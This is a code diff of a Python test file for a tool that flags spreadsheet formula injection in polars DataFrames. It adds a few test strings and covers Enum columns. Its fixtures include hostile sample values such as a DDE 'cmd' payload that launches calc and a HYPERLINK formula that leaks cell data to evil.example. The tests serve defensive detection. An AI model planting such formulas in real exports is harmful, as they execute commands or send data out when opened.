@@ -30,7 +30,22 @@ FORMULAS = (
         "+HYPERLINK(1)",
         "--1",
     ),
-    *("\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "＝1", "＋1+1", "+a1", "-a1", "-(1)", "+A1 B2"),
+    *(
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "\tSUM(1)",
+        "\nSUM(1)",
+        " =1",
+        "\u00a0=1",
+        "\ufeff=1",
+        "＝1",
+        "＋1+1",
+        "+a1",
+        "-a1",
+        "-(1)",
+        "+A1 B2",
+    ),
     *("a;=cmd|' /C calc'!A0", 'a; "=1"', "a\t=1", "a\n@SUM(1)", ";;＝1"),
     *('=HYPERLINK("http://evil.example?x="&A1)', "-1 +cmd|x", "+1 =2", "-1.5%+1", "-1 x!A1"),
 )
@@ -155,9 +170,15 @@ def test_every_column_of_text_is_looked_at_and_the_list_ends() -> None:
     """Strings, categories and enums; numbers are left alone; of many texts the first are listed."""
     texts = [f"=A{number}" for number in range(30)]
     frame = pl.DataFrame(
-        {"a": texts, "b": pl.Series(texts, dtype=pl.Categorical()), "c": range(30), "d": ["x"] * 30}
+        {
+            "a": texts,
+            "b": pl.Series(texts, dtype=pl.Categorical()),
+            "c": range(30),
+            "d": ["x"] * 30,
+            "e": pl.Series(texts, dtype=pl.Enum(texts)),
+        }
     )
     found = list(harmful_texts(frame))
-    assert {each.place.column for each in found} == {"a", "b"}
-    assert len(found) == 2 * 21
+    assert {each.place.column for each in found} == {"a", "b", "e"}
+    assert len(found) == 3 * 21
     assert list(harmful_texts(frame, ["d"])) == []
